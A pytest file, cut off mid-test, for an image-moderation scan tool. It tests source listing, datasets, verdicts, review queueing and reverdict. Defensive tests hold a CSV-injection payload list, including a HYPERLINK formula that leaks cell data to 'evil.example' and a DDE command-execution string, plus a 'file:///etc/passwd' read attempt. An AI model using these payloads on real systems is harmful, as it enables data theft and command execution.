"""nsfw-scan's parts without Ray (the fast loop): sources, resume keys, the dataset, verdicts, queueing,
reverdict, the per-actor worker and the driver.  tests/test_scan_ray.py runs the whole command on Ray."""

from __future__ import annotations

import csv
import dataclasses
import datetime as _dt
import hashlib
import io
import json
import random
from pathlib import Path
from typing import Any

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from nsfw_core.base import spreadsheet
from nsfw_core.base.errors import ForbiddenAddress, InvalidURL, TooLarge
from nsfw_core.base.labels import ADULT, CLASS_NAMES, SAFE, UNKNOWN
from nsfw_core.base.settings import load_settings
from nsfw_core.base.verdict import Thresholds
from nsfw_core.classify import FrameScore, ModelInfo, Timings
from nsfw_core.classify import judge as service_judge
from nsfw_core.inference.embeddings import AdapterHead
from nsfw_core.inference.modelfiles import read_verified, version
from nsfw_core.scan import cli
from nsfw_core.scan.dataset import DatasetError, ScanDataset, latest, new_run_id
from nsfw_core.scan.driver import Driver, to_rows
from nsfw_core.scan.judge import judge
from nsfw_core.scan.keys import DoneSet, key
from nsfw_core.scan.queueing import Queuer, audited, wanted
from nsfw_core.scan.reverdict import NoEmbeddings, reverdict
from nsfw_core.scan.schema import FAILED, FILE, OBJECT, SCHEMA, SCORED, SKIPPED, URL, WORKER_SCHEMA
from nsfw_core.scan.sources import Reader, SourceError, list_sources, listing_tables
from nsfw_core.scan.worker import ScanWorker, WorkerConfig
from nsfw_core.state.adapters import Adapters, AdapterVersion
from nsfw_core.state.db import open_pool
from nsfw_core.state.known import KnownImages, ListEntry, Match
from nsfw_core.state.review import ReviewQueue
from tests.helpers.paths import COMPILED_DIR, REFERENCE_IMAGES, ROOT
from tests.helpers.scanfiles import catalogue

NOW = _dt.datetime(2026, 12, 7, tzinfo=_dt.timezone.utc)


def _sha(i: int) -> str:
    return hashlib.sha256(str(i).encode()).hexdigest()


def _rows(rows: list[dict[str, Any]]) -> pa.Table:
    """SCHEMA rows from partial dicts (the required columns filled in)."""
    base = {"kind": FILE, "model": "MobileNetV2Mid", "model_version": "v1", "decode": "default", "scanned_at": NOW,
            "run_id": "r"}
    return pa.Table.from_pylist([{**base, **r} for r in rows], schema=SCHEMA)


def _scores(rng: random.Random) -> dict[str, float]:
    raw = [rng.random() ** 3 for _ in CLASS_NAMES]
    total = sum(raw)
    return {c: float(np.float32(v / total)) for c, v in zip(CLASS_NAMES, raw, strict=True)}


# ---------------------------------------------------------------- sources


def test_sources_walk_folders_read_manifests_and_url_lists(tmp_path, monkeypatch):
    photos = tmp_path / "cat" / "photos"
    (photos / "nested").mkdir(parents=True)
    for name in ("b.jpg", "a.PNG", "nested/c.webp", "notes.txt", ".hidden.jpg"):
        (photos / name).write_bytes(b"x")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "outside.jpg").write_bytes(b"x")
    (photos / "link").symlink_to(tmp_path / "elsewhere")  # a link to a folder is not followed
    manifest = tmp_path / "set.csv"
    manifest.write_text("path,label\ncat/photos/b.jpg,porn\nhttps://example.com/m.jpg,neutral\n")
    urls = tmp_path / "urls.txt"
    urls.write_text("# images of the week\nhttps://example.com/u.jpg\n\ns3://bucket/k.jpg\nnot/a/url.jpg\n")
    monkeypatch.chdir(tmp_path)
    listed = list(list_sources(["cat/photos", "https://example.com/m.jpg"], manifests=[str(manifest)],
                               url_lists=[str(urls)]))
    got = [(Path(i.source).relative_to(tmp_path).as_posix() if i.kind == FILE else i.source, i.kind, i.label)
           for i in listed]
    assert got == [
        ("cat/photos/a.PNG", FILE, None), ("cat/photos/b.jpg", FILE, None), ("cat/photos/nested/c.webp", FILE, None),
        ("https://example.com/m.jpg", URL, None),  # named twice: once, the first time
        ("https://example.com/u.jpg", URL, None), ("s3://bucket/k.jpg", OBJECT, None),
        ("not/a/url.jpg", URL, None),  # a URL list is never read as local paths: an invalid_url row
    ]
    assert all(Path(i.source).is_absolute() for i in listed if i.kind == FILE)
    tables = list(listing_tables(iter(listed), 3))
    assert [t.num_rows for t in tables] == [3, 3, 1]
    with pytest.raises(SourceError, match="missing"):
        list(list_sources([str(tmp_path / "missing")]))


def test_the_reader_keeps_the_byte_cap_and_the_fetchers_rules(tmp_path):
    policy = dataclasses.replace(load_settings(environ={}).fetch_policy, max_bytes=100)
    reader = Reader(policy)
    (tmp_path / "big.jpg").write_bytes(b"x" * 101)
    (tmp_path / "ok.jpg").write_bytes(b"x" * 100)
    assert reader.read(str(tmp_path / "ok.jpg"), FILE) == b"x" * 100
    with pytest.raises(TooLarge):
        reader.read(str(tmp_path / "big.jpg"), FILE)
    with pytest.raises(ForbiddenAddress):  # the SSRF-safe fetcher: no loopback unless allowed
        reader.read("http://127.0.0.1:9/a.jpg", URL)
    with pytest.raises(InvalidURL):
        reader.read("not/a/url.jpg", URL)
    with pytest.raises(InvalidURL):  # nothing but http(s) is fetched
        reader.read("file:///etc/passwd", URL)


# ---------------------------------------------------------------- resume keys and the dataset


def test_the_done_set_holds_exactly_its_keys():
    done = DoneSet.of([("a", _sha(1)), ("b", _sha(2))])
    assert ("a", _sha(1)) in done and ("b", _sha(2)) in done
    assert ("a", _sha(2)) not in done and ("c", _sha(1)) not in done
    assert len(done) == 2 and ("a", _sha(1)) not in DoneSet()
    assert DoneSet(done.keys).keys.tolist() == sorted({key("a", _sha(1)), key("b", _sha(2))})


def test_parts_are_atomic_the_view_keeps_the_latest_row_and_done_follows_the_model_version(tmp_path):
    ds = ScanDataset(str(tmp_path / "ds"))
    ds.create_or_open("test")
    run = new_run_id(NOW)
    ds.write_part(_rows([{"source": "a", "sha256": _sha(1), "porn": 0.1},
                         {"source": "b", "sha256": _sha(2), "error_code": "not_an_image"},
                         {"source": "c", "sha256": _sha(3), "error_code": "upstream_timeout"},
                         {"source": "d", "sha256": None, "error_code": "too_large"},
                         {"source": "e", "sha256": _sha(5), "model_version": "v0"}]), run, 0)
    ds.write_part(_rows([{"source": "a", "sha256": _sha(11)}]), run, 1)  # a's bytes changed: a newer row
    (tmp_path / "ds" / ".part-x.parquet.tmp").write_bytes(b"half a file")  # what a killed writer leaves
    assert ds.parts() == [f"part-{run}-000000.parquet", f"part-{run}-000001.parquet"]
    view = ds.view(["source", "sha256"])
    assert view["source"].to_pylist() == ["b", "c", "d", "e", "a"]
    assert view.filter(pa.compute.equal(view["source"], "a"))["sha256"].to_pylist() == [_sha(11)]
    done = ds.done("MobileNetV2Mid", "v1")
    # a: latest bytes only; b: its error is the image's own (final); c: a timeout is retried; d: no sha256;
    # e: another model version
    assert ("a", _sha(11)) in done and ("a", _sha(1)) not in done and ("b", _sha(2)) in done
    assert len(done) == 2
    assert len(ds.done("MobileNetV2Mid", "v1", retry_errors=True)) == 1
    assert len(ds.done("InceptionV3", "v1")) == 0
    assert len(ds.done("MobileNetV2Mid", "v1", decode="fast")) == 0  # --fast-decode's rows are its own
    # any reader sees the rows (the hidden leftover and _nsfw_scan.json are skipped)
    import pyarrow.dataset as pads

    assert pads.dataset(str(tmp_path / "ds"), format="parquet").to_table().num_rows == 6


def test_a_dataset_is_never_written_into_another_folder_and_one_writer_holds_it(tmp_path):
    (tmp_path / "busy").mkdir()
    (tmp_path / "busy" / "thesis.docx").write_bytes(b"x")
    with pytest.raises(DatasetError, match="not empty"):
        ScanDataset(str(tmp_path / "busy")).create_or_open("test")
    with pytest.raises(DatasetError, match="not an nsfw-scan dataset"):
        ScanDataset(str(tmp_path / "busy")).check()
    ds = ScanDataset(str(tmp_path / "ds"))
    ds.create_or_open("test")
    ds.create_or_open("test")  # opening again is fine
    (tmp_path / "ds" / "_nsfw_scan.json").write_text(json.dumps({"format": 99}))
    with pytest.raises(DatasetError, match="newer"):
        ds.check()
    (tmp_path / "ds" / "_nsfw_scan.json").write_text(json.dumps({"format": 1}))
    with ds.locked():
        with pytest.raises(DatasetError, match="in use"):
            with ScanDataset(str(tmp_path / "ds")).locked():
                pass
    with ScanDataset(str(tmp_path / "ds")).locked():  # released
        pass


# ---------------------------------------------------------------- verdicts: the service's rules


class _Known:
    """A lookup that answers from a dict, as KnownImages.lookup_many does."""

    def __init__(self, matches: dict[str, Match]) -> None:
        self.matches = matches

    def __call__(self, shas, pdqs) -> list[Match | None]:
        return [self.matches.get(sha) for sha in shas]


@pytest.mark.parametrize("thresholds", [Thresholds(), Thresholds(adult=0.5, safe=0.6),
                                        Thresholds(adult=0.3, safe=0.95, adult_classes=("porn", "hentai", "sexy"),
                                                   safe_classes=("neutral",))])
def test_every_row_gets_the_verdict_the_service_would_give(thresholds):
    rng = random.Random(7)
    rows, expected_frames, matches = [], {}, {}
    kinds = ["review", "list"]
    for i in range(600):
        scores = _scores(rng)
        if i % 50 == 0:  # exactly on a threshold: "at or above", with the service's float slack
            scores = {"porn": thresholds.adult / 2, "sexy": thresholds.adult / 2, "hentai": 0.0,
                      "neutral": 1 - thresholds.adult, "drawings": 0.0}
        row: dict[str, Any] = {"source": f"s{i}", "sha256": _sha(i), **scores}
        if i % 7 == 0:  # an animation: the worst frame under these thresholds decides
            frames = [FrameScore(k * 3, k * 100, _scores(rng)) for k in range(rng.randint(1, 5))]
            expected_frames[i] = frames
            row.update({c: None for c in CLASS_NAMES})
            row["frames"] = [{"index": f.index, "time_ms": f.time_ms, "scores": [f.scores[c] for c in CLASS_NAMES]}
                             for f in frames]
        if i % 5 == 0:
            # a remembered decision carries the decided image's scores (the service's look-alike rule uses them)
            decided = _scores(rng) if i % 3 else scores
            matches[_sha(i)] = Match(kinds[i % 2], rng.choice([ADULT, SAFE]), "deny", rng.choice(["sha256", "pdq"]),
                                     rng.randint(0, 31), i, None, decided if kinds[i % 2] == "review" else None,
                                     "MobileNetV2Mid")
        if i % 97 == 0:
            row = {"source": f"s{i}", "sha256": _sha(i), "error_code": "not_an_image"}
        rows.append(row)
    table = _rows(rows)
    got = judge(table, thresholds, 4, _Known(matches), now=NOW)
    for i, row in enumerate(rows):
        if "error_code" in row:
            assert got["verdict"][i].as_py() is None and got["porn"][i].as_py() is None
            continue
        scores = {c: float(np.float32(row[c])) for c in CLASS_NAMES} if i not in expected_frames else \
            expected_frames[i][0].scores
        want = service_judge(scores, thresholds, ModelInfo("MobileNetV2Mid", "v1"), Timings(0, 0, 0, 0), _sha(i), 4,
                             frames=expected_frames.get(i), match=matches.get(_sha(i)))
        assert got["verdict"][i].as_py() == want.verdict, i
        assert got["verdict_source"][i].as_py() == want.verdict_source, i
        assert got["adult_score"][i].as_py() == want.adult_score and got["safe_score"][i].as_py() == want.safe_score
        assert [got[c][i].as_py() for c in CLASS_NAMES] == [want.scores[c] for c in CLASS_NAMES]
        assert got["deciding_frame"][i].as_py() == want.deciding_frame
        assert got["match_by"][i].as_py() == (want.match.by if want.match else None)
    assert set(got["thresholds_version"].to_pylist()) == {4}


# ---------------------------------------------------------------- queueing


def test_queueing_takes_unknowns_and_a_stable_audit_share_at_most_once(tmp_path):
    rows = [{"source": f"s{i}", "sha256": _sha(i), "verdict": [UNKNOWN, SAFE, ADULT][i % 3], "verdict_source": "model",
             "porn": 0.2, "sexy": 0.1, "hentai": 0.0, "neutral": 0.6, "drawings": 0.1} for i in range(300)]
    rows[0]["verdict_source"] = "list"  # a known image already has a human verdict: never queued
    rows.append({"source": "bad", "sha256": _sha(999), "error_code": "not_an_image"})
    table = _rows(rows)
    pick = wanted(table, (UNKNOWN,), 0.1)
    unknowns = {i for i in range(300) if i % 3 == 0 and i != 0}
    audit = {i for i in range(300) if i % 3 and audited(_sha(i), 0.1)}
    assert set(np.flatnonzero(pick).tolist()) == unknowns | audit
    assert 5 <= len(audit) <= 40  # about 10 % of 200
    assert audit == {i for i in range(300) if i % 3 and audited(_sha(i), 0.1)}  # the same draw every time
    assert not any(audited(_sha(i), 0.0) for i in range(300)) and all(audited(_sha(i), 1.0) for i in range(300))
    queue = ReviewQueue(None, data_dir=tmp_path)
    try:
        queuer = Queuer(queue, (UNKNOWN,), 0.1)
        ids = queuer.enqueue(table)
        assert queue.counts()["pending"] == len(unknowns | audit) == queuer.queued
        assert sorted(i for i, v in enumerate(ids.to_pylist()) if v is not None) == sorted(unknowns | audit)
        again = table.set_column(table.schema.get_field_index("review_id"), "review_id", ids)
        assert Queuer(queue, (UNKNOWN,), 0.1).enqueue(again).equals(ids)  # rows with a review id: not again
        assert queue.counts()["pending"] == len(unknowns | audit)
        # a driver killed after queueing but before writing: the same images again find their open items
        assert Queuer(queue, (UNKNOWN,), 0.1).enqueue(table).equals(ids)
        assert queue.counts()["total"] == len(unknowns | audit)
    finally:
        queue.close()


REVIEWER_KEY = "reviewer-key-scan-0123456789"


def test_a_queued_row_keeps_the_review_id_its_webhooks_and_the_reviewer_api_name_it_by(tmp_path):
    """Issue 28 after issue 29: a scan row is matched to its webhook event and its reviewer API item by the
    public rv_ id, the creator's when an API client queued the image first (the queue's row number: 404)."""
    from nsfw_core.state.review.queue import TICKET_RE
    from nsfw_core.state.webhooks import event_for
    from tests.helpers.apiclient import running

    scores = {"porn": 0.2, "sexy": 0.1, "hentai": 0.0, "neutral": 0.6, "drawings": 0.1}
    table = _rows([{"source": f"s{i}", "sha256": _sha(i), "verdict": UNKNOWN, "verdict_source": "model", **scores}
                   for i in range(4)])
    queue = ReviewQueue(None, data_dir=tmp_path)
    try:
        # an API client queued image 1 first: the scan joins that item, whose public id is the client's
        first_item, client_ticket = queue.enqueue_for("client-a", _sha(1), "upload", scores, "MobileNetV2Mid",
                                                      UNKNOWN)
        ids = Queuer(queue, (UNKNOWN,)).enqueue(table).to_pylist()
        assert all(isinstance(rid, str) and TICKET_RE.match(rid) for rid in ids), ids
        assert ids[1] == client_ticket
        items = {}
        for i, rid in enumerate(ids):
            found = queue.ticket(rid)
            assert found is not None
            item = queue.get(found[0])
            assert item is not None and item.sha256 == _sha(i)
            assert rid == queue.public_id(item.id) == event_for(item)["review"]["id"]  # the webhook event's id
            items[rid] = item.id
        assert items[ids[1]] == first_item
        assert Queuer(queue, (UNKNOWN,)).enqueue(table).to_pylist() == ids  # the open items again, same ids
    finally:
        queue.close()
    # the reviewer API (in process, on the same database) hands out and decides the items by these ids
    settings = load_settings(environ={"NSFW_REVIEWER_API_KEYS": REVIEWER_KEY}, data_dir=str(tmp_path))
    auth = {"Authorization": f"Bearer {REVIEWER_KEY}"}
    with running(settings, wait=False) as client:
        claimed = set()
        for _ in ids:
            reply = client.post("/v1/reviews/claim", headers=auth)
            assert reply.status_code == 200, reply.text
            claimed.add(reply.json()["item"]["id"])
        assert claimed == set(ids)
        reply = client.post(f"/v1/reviews/{ids[0]}/decision", json={"label": "safe"}, headers=auth)
        assert reply.status_code == 200, reply.text
        assert reply.json()["review"]["id"] == ids[0]
        reply = client.post(f"/v1/reviews/{items[ids[2]]}/decision", json={"label": "safe"}, headers=auth)
        assert reply.status_code == 404 and reply.json()["code"] == "not_found", reply.text


# ---------------------------------------------------------------- reverdict


def _dataset_of_scores(tmp_path: Path, n: int, parts: int = 4) -> tuple[ScanDataset, list[dict[str, Any]]]:
    rng = random.Random(3)
    ds = ScanDataset(str(tmp_path / "ds"))
    ds.create_or_open("test")
    rows = [{"source": f"s{i}", "sha256": _sha(i), **_scores(rng)} for i in range(n)]
    rows[1] = {"source": "s1", "sha256": _sha(1), "error_code": "not_an_image"}
    table = _rows(rows)
    for name, column in judge(table, Thresholds(), 1, now=NOW).items():
        table = table.set_column(table.schema.get_field_index(name), name, column)
    run = new_run_id(NOW)
    step = -(-n // parts)
    for k in range(parts):
        ds.write_part(table.slice(k * step, step), run, k)
    return ds, rows


def test_reverdict_rejudges_stored_scores_reports_the_changes_and_is_idempotent(tmp_path):
    ds, rows = _dataset_of_scores(tmp_path, 2000)
    before = {name: (tmp_path / "ds" / name).read_bytes() for name in ds.parts()}
    new = Thresholds(adult=0.5, safe=0.6)
    dry = reverdict(ds, new, 2, dry_run=True)
    assert {name: (tmp_path / "ds" / name).read_bytes() for name in ds.parts()} == before  # nothing written
    report = reverdict(ds, new, 2)
    expected: dict[tuple[str, str], int] = {}
    for row in rows:
        if "error_code" in row:
            pair = ("error", "error")
        else:
            scores = {c: float(np.float32(row[c])) for c in CLASS_NAMES}
            pair = (Thresholds().decide(scores), new.decide(scores))
        expected[pair] = expected.get(pair, 0) + 1
    assert report.transitions == expected == dry.transitions
    changed = sum(c for (o, n), c in expected.items() if o != n)
    assert report.changed == changed == len(report.changes) > 0 and report.rows == 2000 and report.judged == 1999
    assert report.parts_rewritten == 4
    view = ds.view()
    assert set(view["thresholds_version"].to_pylist()) == {2}
    by_source = dict(zip(view["source"].to_pylist(), view["verdict"].to_pylist(), strict=True))
    for change in report.changes:
        assert by_source[change["source"]] == change["new_verdict"]
    assert view["porn"].equals(_rows(rows)["porn"])  # the scores are the scan's, untouched
    csv_text = report.changes_csv()
    assert csv_text.splitlines()[0].startswith("source,sha256,old_verdict,new_verdict") and \
        len(csv_text.splitlines()) == changed + 1
    again = reverdict(ds, new, 2)
    assert again.changed == 0 and again.parts_rewritten == 0
    back = reverdict(ds, Thresholds(), 1)
    assert back.changed == changed and ds.view()["verdict"].equals(
        pa.chunked_array([judge(_rows(rows), Thresholds(), 1, now=NOW)["verdict"]]))


def test_a_format_1_dataset_is_read_rewritten_in_format_2_and_its_row_numbers_become_public_ids(tmp_path, monkeypatch):
    """Format 1 kept the queue's row number (int64) as review_id: still read (as its decimal string, still
    queued), marked format 2 before this version writes into it, rewritten by reverdict, and with --queue
    each number becomes its item's public id (a purged item keeps its number)."""
    import pyarrow.dataset as pads

    import nsfw_core.scan.dataset as dataset_module
    from nsfw_core.state.review.queue import TICKET_RE

    scores = {"porn": 0.2, "sexy": 0.1, "hentai": 0.0, "neutral": 0.6, "drawings": 0.1}
    assert Thresholds().decide(scores) == UNKNOWN
    queue = ReviewQueue(None, data_dir=tmp_path / "data")
    try:
        numbers = [queue.enqueue(_sha(i), f"s{i}", scores, "MobileNetV2Mid", UNKNOWN) for i in range(2)]
        gone = max(numbers) + 1000  # an item purged since
        table = _rows([{"source": f"s{i}", "sha256": _sha(i), **scores} for i in range(4)])
        for name, column in judge(table, Thresholds(), None, now=NOW).items():
            table = table.set_column(table.schema.get_field_index(name), name, column)
        old_schema = SCHEMA.set(SCHEMA.get_field_index("review_id"), pa.field("review_id", pa.int64()))
        table = table.cast(old_schema).set_column(old_schema.get_field_index("review_id"), "review_id",
                                                  pa.array([*numbers, gone, None], pa.int64()))
        folder = tmp_path / "ds"
        folder.mkdir()
        (folder / "_nsfw_scan.json").write_text(json.dumps({"format": 1, "created_by": "nsfw-scan 0.1"}))
        part = f"part-{new_run_id(NOW)}-000000.parquet"
        pq.write_table(table, folder / part)
        ds = ScanDataset(str(folder))
        assert ds.check()["format"] == 1 and ds.outdated(part)
        view = ds.view()
        assert view["review_id"].to_pylist() == [*map(str, numbers), str(gone), None]  # read as is
        assert np.flatnonzero(wanted(view)).tolist() == [3]  # rows queued in format 1 are never queued again
        # reverdict (no queue): the part is rewritten in format 2, the dataset marked format 2 first
        report = reverdict(ds, Thresholds(), None)
        assert report.changed == 0 and report.parts_rewritten == 1
        assert json.loads((folder / "_nsfw_scan.json").read_text()) == {"format": 2, "created_by": "nsfw-scan 0.1"}
        assert not ds.outdated(part) and pq.read_schema(folder / part).field("review_id").type == pa.string()
        assert pads.dataset(str(folder), format="parquet").to_table()["review_id"].to_pylist() == \
            [*map(str, numbers), str(gone), None]
        monkeypatch.setattr(dataset_module, "FORMAT", 1)  # an older nsfw-scan refuses it, not misreads it
        with pytest.raises(DatasetError, match="newer"):
            ScanDataset(str(folder)).check()
        monkeypatch.undo()
        # reverdict --queue: the numbers become the items' public ids, the unqueued unknown is queued
        queuer = Queuer(queue, (UNKNOWN,))
        report = reverdict(ds, Thresholds(), None, queuer=queuer)
        assert report.parts_rewritten == 1 and queuer.queued == 1
        ids = ds.view()["review_id"].to_pylist()
        assert ids[:2] == [queue.public_id(n) for n in numbers] and all(TICKET_RE.match(i) for i in ids[:2])
        assert ids[2] == str(gone)
        found = queue.ticket(ids[3])
        assert found is not None and queue.public_id(found[0]) == ids[3]
        assert queue.counts()["total"] == 3
        assert reverdict(ds, Thresholds(), None, queuer=Queuer(queue, (UNKNOWN,))).parts_rewritten == 0
    finally:
        queue.close()


def test_reverdict_changes_csv_writes_formula_like_sources_as_text(tmp_path):
    """``--changes FILE`` goes through the spreadsheet writer (issue 29, CSV injection): a source the scan read,
    such as a file named ``=HYPERLINK(...)``, is written with a leading apostrophe and reads back as it was."""
    hostile = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
               "\tindented", "plain.jpg"]
    adult = {"porn": 0.9, "sexy": 0.05, "hentai": 0.0, "neutral": 0.05, "drawings": 0.0}
    ds = ScanDataset(str(tmp_path / "ds"))
    ds.create_or_open("test")
    table = _rows([{"source": s, "sha256": _sha(i), **adult} for i, s in enumerate(hostile)])
    for name, column in judge(table, Thresholds(), 1, now=NOW).items():
        table = table.set_column(table.schema.get_field_index(name), name, column)
    ds.write_part(table, new_run_id(NOW), 0)
    report = reverdict(ds, Thresholds(adult=0.95, safe=0.95), 2)  # adult -> unknown: every row changed
    assert report.changed == len(hostile)
    text = report.changes_csv()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["source", "sha256", "old_verdict", "new_verdict", "old_verdict_source", "new_verdict_source",
                       "adult_score", "safe_score"]
    written = {row[1]: row[0] for row in rows[1:]}
    for i, source in enumerate(hostile):
        cell = written[_sha(i)]
        assert cell == (source if source == "plain.jpg" else "'" + source)
        assert spreadsheet.unescape(cell) == source
    assert all(not row[0].startswith(spreadsheet.TRIGGERS) for row in rows[1:])
    assert {row[2] for row in rows[1:]} == {ADULT} and {row[3] for row in rows[1:]} == {UNKNOWN}


def test_reverdict_counts_only_the_latest_row_of_each_image_and_applies_hash_lists(tmp_path):
    ds, rows = _dataset_of_scores(tmp_path, 40, parts=2)
    # s5 was scanned again later (its bytes changed): its old row is hidden
    newer = _rows([{"source": "s5", "sha256": _sha(500), "porn": 0.0, "sexy": 0.0, "hentai": 0.0, "neutral": 1.0,
                    "drawings": 0.0}])
    ds.write_part(newer, new_run_id(NOW + _dt.timedelta(days=1)), 0)
    pool = open_pool(None, tmp_path)
    known = KnownImages(pool)
    try:
        known.import_list([ListEntry(_sha(500), None, "deny", "takedown")], by="admin")
        report = reverdict(ds, Thresholds(), 1, lookup=known.lookup_many)
        assert report.rows == 40
        assert [(c["source"], c["old_verdict"], c["new_verdict"], c["new_verdict_source"]) for c in report.changes] \
            == [("s5", None, ADULT, "list")]
        latest_rows = latest(ds.read(["source", "verdict", "verdict_source", "match_by"]))
        s5 = latest_rows.filter(pa.compute.equal(latest_rows["source"], "s5")).to_pylist()
        assert s5 == [{"source": "s5", "verdict": ADULT, "verdict_source": "list", "match_by": "sha256", "_order": 40}]
    finally:
        known.close()
        pool.close()


# ---------------------------------------------------------------- the worker and the driver, without Ray


@pytest.fixture(scope="module")
def worker_config() -> WorkerConfig:
    settings = load_settings(environ={"NSFW_COMPILED_DIR": COMPILED_DIR})
    name = settings.model_config.name
    return WorkerConfig(model_name=name, model_version=version(*read_verified(ROOT / "model", name)),
                        model=settings.model_config, decode=settings.decode_limits, fetch=settings.fetch_policy)


def test_hostile_files_are_error_rows_with_stable_codes_and_the_model_loads_once(tmp_path, worker_config):
    expected = catalogue(tmp_path)
    loads = ScanWorker.loads
    worker = ScanWorker(worker_config)
    try:
        answers = [worker(t) for t in listing_tables(list_sources([str(tmp_path)]), 5)]
        assert ScanWorker.loads == loads + 1  # once per actor, not per batch (6 batches here)
        rows = {r["source"]: r for t in answers for r in t.to_pylist()}
        assert {s: r["error_code"] for s, r in rows.items()} == expected
        assert all(r["status"] == (SCORED if expected[s] is None else FAILED) for s, r in rows.items())
        assert all(r["model_rows"] == 0 for s, r in rows.items() if expected[s] is not None)
        gif = rows[str(tmp_path / "odd" / "frames.gif")]
        assert gif["frames"] and gif["scores"] is None and gif["pdq"] is None  # animations: sha256 only
        house = rows[next(s for s in rows if s.endswith("reference-house.jpg"))]
        assert house["sha256"] == hashlib.sha256((ROOT / "tests/fixtures/reference/house.jpg").read_bytes()).hexdigest()
        assert len(house["pdq"]) == 32 and house["size"] == (ROOT / "tests/fixtures/reference/house.jpg").stat().st_size
        # the reference scores (nsfwjs 4.4.0's own outputs, within 0.01)
        reference = json.loads((ROOT / "tests/fixtures/reference/nsfwjs-4.4.0-outputs.json").read_text())
        ref = [reference["MobileNetV2Mid"]["house.jpg"][k] for k in ("Drawing", "Hentai", "Neutral", "Porn", "Sexy")]
        assert all(abs(got - want) < 0.01 for got, want in zip(house["scores"], ref, strict=True))
        # what the dataset holds is skipped before decoding, after reading and hashing
        done = np.array([key(s, r["sha256"]) for s, r in rows.items() if r["sha256"]], dtype=np.uint64)
        skipping = ScanWorker(worker_config, done)
        again = [r for t in listing_tables(list_sources([str(tmp_path)]), 50) for r in skipping(t).to_pylist()]
        assert {r["status"] for r in again if r["sha256"]} == {SKIPPED}
        assert sum(r["model_rows"] for r in again) == 0
        skipping.close()
    finally:
        worker.close()


def test_fast_decode_drafts_large_jpegs_to_the_model_input_and_keeps_every_limit(worker_config):
    fast = ScanWorker(dataclasses.replace(worker_config, decode_mode="fast"))
    default = ScanWorker(worker_config)
    try:
        assert fast.decoder.draft_size(fast.model) == 224 and default.decoder.draft_size(default.model) == 896
        assert fast.decoder.limits == default.decoder.limits
    finally:
        fast.close()
        default.close()


def test_an_interrupted_run_and_its_rerun_leave_each_image_exactly_once(tmp_path, worker_config):
    photos = catalogue(tmp_path / "cat")
    ds = ScanDataset(str(tmp_path / "ds"))
    ds.create_or_open("test")
    listing = list(list_sources([str(tmp_path / "cat")]))
    worker = ScanWorker(worker_config)

    def interrupted(tables):
        for n, table in enumerate(tables):
            if n == 3:
                raise KeyboardInterrupt
            yield worker(table)

    def driver() -> Driver:
        return Driver(ds, model=worker_config.model_name, model_version=worker_config.model_version,
                      run_id=new_run_id(), thresholds=Thresholds(), thresholds_version=None, flush_rows=4)

    first = driver()
    with pytest.raises(KeyboardInterrupt):
        first.consume(interrupted(listing_tables(listing, 4)))
    assert first.summary.rows_written == 12 == ds.view().num_rows  # Ctrl-C wrote what was answered
    done = ds.done(worker_config.model_name, worker_config.model_version)
    second = driver()
    skipping = ScanWorker(worker_config, done.keys)
    summary = second.consume(skipping(t) for t in listing_tables(listing, 4))
    assert summary.skipped == 12 and summary.scored + summary.errors == len(photos) - 12
    table = ds.read()
    assert sorted(table["source"].to_pylist()) == sorted(photos)  # each image exactly once
    codes = dict(zip(table["source"].to_pylist(), table["error_code"].to_pylist(), strict=True))
    assert codes == photos
    worker.close()
    skipping.close()


def test_worker_answers_become_schema_rows():
    answers = pa.Table.from_pylist([
        {"source": "a", "kind": FILE, "status": SCORED, "size": 3, "sha256": _sha(1), "scores": [0.1, 0.2, 0.3, 0.3, 0.1],
         "pdq": b"\x01" * 32, "model_rows": 1, "worker": "h:1", "model_loads": 1},
        {"source": "b", "kind": URL, "status": FAILED, "error_code": "upstream_timeout", "error_message": "slow",
         "model_rows": 0, "worker": "h:1", "model_loads": 1},
    ], schema=WORKER_SCHEMA)
    rows = to_rows(answers, "MobileNetV2Mid", "v1", "run", NOW)
    assert rows.schema == SCHEMA
    assert rows.column("porn").to_pylist()[0] == pytest.approx(0.3) and rows.column("porn").to_pylist()[1] is None
    buf = io.BytesIO()
    pq.write_table(rows, buf)
    assert pq.read_table(io.BytesIO(buf.getvalue())).schema.equals(SCHEMA)


# ---------------------------------------------------------------- the command's refusals


def test_the_commands_refusals(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("NSFW_DATA_DIR", str(tmp_path / "data"))
    ds = ScanDataset(str(tmp_path / "ds"))
    ds.create_or_open("test")
    assert cli.main(["reverdict", str(tmp_path / "ds"), "--adult", "0.5"]) == 2
    assert cli.main([str(REFERENCE_IMAGES[0]), "--out", str(tmp_path / "x"), "--audit-share", "0.1"]) == 2
    assert "--audit-share needs --queue" in capsys.readouterr().err
    assert cli.main(["reverdict", str(tmp_path / "nothing")]) == 2
    assert "not an nsfw-scan dataset" in capsys.readouterr().err
    # --adapter names an adapter of the database: an unknown one, a malformed name, one that failed its proof
    assert cli.main(["reverdict", str(tmp_path / "ds"), "--adapter", "nope"]) == 2
    assert "nope" in capsys.readouterr().err
    assert cli.main(["reverdict", str(tmp_path / "ds"), "--adapter", "nope@x"]) == 2
    assert "expected NAME or NAME@VERSION" in capsys.readouterr().err
    pool = open_pool(None, tmp_path / "data")
    store = Adapters(pool)
    try:
        _store_adapter(store, "failed", publishable=False)
        _store_adapter(store, "proved")
    finally:
        store.close()
        pool.close()
    assert cli.main(["reverdict", str(tmp_path / "ds"), "--adapter", "failed"]) == 2
    assert "did not pass its held-out proof" in capsys.readouterr().err


# ---------------------------------------------------------------- embeddings and adapters (issue 26)

DIM = 8


def _head(seed: int = 11) -> AdapterHead:
    rng = np.random.default_rng(seed)
    return AdapterHead(DIM, rng.normal(0, 1.5, DIM + len(CLASS_NAMES)), -0.2)


def _store_adapter(store: Adapters, name: str, *, publishable: bool = True, version: str = "v1") -> AdapterVersion:
    return store.save(name=name, model="MobileNetV2Mid", model_version=version, head=_head(), t_adult=0.6,
                      t_safe=0.7, report={}, dataset_sha256="0" * 64, examples=40, publishable=publishable, by="test")


def _adapter(version: str = "v1") -> AdapterVersion:
    return AdapterVersion("policy", 3, "MobileNetV2Mid", version, _head(), 0.6, 0.7, {}, "0" * 64, 40, True, "test",
                          0.0)


def test_embeddings_are_the_models_own_and_kept_for_still_images(tmp_path, worker_config):
    expected = catalogue(tmp_path)
    worker = ScanWorker(dataclasses.replace(worker_config, embeddings=True))
